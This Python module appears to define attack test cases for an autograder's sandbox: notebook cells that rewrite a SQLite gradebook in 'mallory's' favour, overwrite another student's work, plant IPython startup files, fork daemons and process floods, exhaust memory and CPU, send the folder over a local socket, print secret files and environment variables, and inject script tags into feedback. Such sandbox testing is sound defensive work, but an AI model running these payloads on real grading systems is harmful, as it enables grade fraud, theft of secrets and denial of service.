"""Attacks on other people's grades, on the rest of the batch, on the machine and on who reads the feedback."""

import copy

from attack_lab.case import ATTACKED, MARK, WRONG, Case, Notebook, cell_of, code_cell, function, graded_cells


def _copy_gap(notebook: Notebook) -> None:
    gap = cell_of(notebook, ATTACKED)
    notebook["cells"].insert(notebook["cells"].index(gap) + 1, copy.deepcopy(gap))


def _old_schema(notebook: Notebook) -> None:
    for cell in graded_cells(notebook):
        cell["metadata"]["nbgrader"]["schema_version"] = 1


def _write_script(notebook: Notebook) -> None:
    text = {"cell_type": "markdown", "metadata": {}, "id": "text", "source": f"{MARK} <img src=x onerror='{MARK}'>"}
    shown = f'from IPython.display import HTML, display\ndisplay(HTML("{MARK}"))\nprint("{MARK}")'
    notebook["cells"] += [text, code_cell(shown)]


OTHERS = (
    Case(
        "gradebook rewritten",
        "SQL in the notebook: all points to mallory, none to anybody else",
        WRONG
        + """
import sqlite3
with sqlite3.connect("COURSE/gradebook.db") as database:
    mine = "(SELECT id FROM submitted_notebook WHERE assignment_id IN" \\
           " (SELECT id FROM submitted_assignment WHERE student_id = 'mallory'))"
    database.execute(f"UPDATE grade SET manual_score = 10 WHERE notebook_id IN {mine}")
    database.execute(f"UPDATE grade SET manual_score = 0 WHERE notebook_id NOT IN {mine}")
""",
    ),
    Case(
        "neighbour's work replaced",
        "zoe's notebook, not graded yet, is overwritten by ana's",
        WRONG
        + """
import shutil
shutil.copy("COURSE/submitted/ana/distances/distances.ipynb", "COURSE/submitted/zoe/distances/distances.ipynb")
""",
    ),
    Case(
        "next kernels prepared",
        "a file in `~/.ipython/profile_default/startup` that breaks NumPy in every later kernel",
        WRONG
        + """
from pathlib import Path
folder = Path("HOME/.ipython/profile_default/startup")
folder.mkdir(parents=True, exist_ok=True)
(folder / "00.py").write_text("import numpy\\nnumpy.abs = numpy.sqrt = lambda *arguments: 1 / 0\\n")
""",
    ),
    Case(
        "instructor's configuration changed",
        "a line is added to `nbgrader_config.py`, which nbgrader executes",
        WRONG + "\nopen('COURSE/nbgrader_config.py', 'a').write('# mallory was here')\n",
    ),
)

BATCH = (
    Case("copied cell", "a gap's cell is there twice, as a copy in the editor makes it", change=_copy_gap),
    Case("old metadata", "a cell says that its nbgrader schema is version 1", change=_old_schema),
    Case("half a file", "the JSON ends in the middle", spoil=lambda text: text[: len(text) // 2]),
    Case("exit", "the function calls `os._exit(0)`", function("import os\nos._exit(0)")),
    Case("endless loop", "`while True: pass`", function("while True: pass")),
    Case(
        "endless loop that cannot be interrupted",
        "the same, catching every exception",
        function("while True:\n    try:\n        while True: pass\n    except BaseException: pass"),
    ),
    Case(
        "endless C", "a regular expression that never ends", function("import re\nre.match('(a+)+$', 'a' * 60 + 'b')")
    ),
    Case(
        "memory bomb",
        "arrays without end (each process limited to 4 GiB here)",
        function("held = []\nwhile True: held.append(np.ones(2**23))"),
    ),
    Case("30 MB of output", "printed by the function", function("for _ in range(30): print('x' * 10**6)")),
    Case(
        "processes",
        "30 children that sleep",
        "import os, time\n"
        + function(
            "for _ in range(30):\n    if os.fork() == 0:\n        time.sleep(600)\n        os._exit(0)\nreturn None"
        ),
    ),
)

MACHINE = (
    Case(
        "daemon",
        "a process that outlives the notebook",
        WRONG
        + """
import os, time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        for number in range(3, 100):
            try: os.close(number)
            except OSError: pass
        time.sleep(600)
    os._exit(0)
""",
    ),
    Case(
        "network",
        "a TCP connection that sends the notebook's folder",
        WRONG + "\nimport os, socket\nsocket.create_connection(('127.0.0.1', PORT), 2).send(os.getcwd().encode())\n",
    ),
    Case(
        "instructor's files",
        "`~/secret.txt` is printed into the feedback",
        WRONG + "\nprint(open('HOME/secret.txt').read())\n",
    ),
    Case(
        "environment",
        "the instructor's environment variables are printed into the feedback",
        WRONG + "\nimport os\nprint(dict(os.environ))\n",
    ),
    Case(
        "script in feedback",
        "`<script>` in a text, in displayed HTML and in printed output",
        change=_write_script,
        page=True,
    ),
)
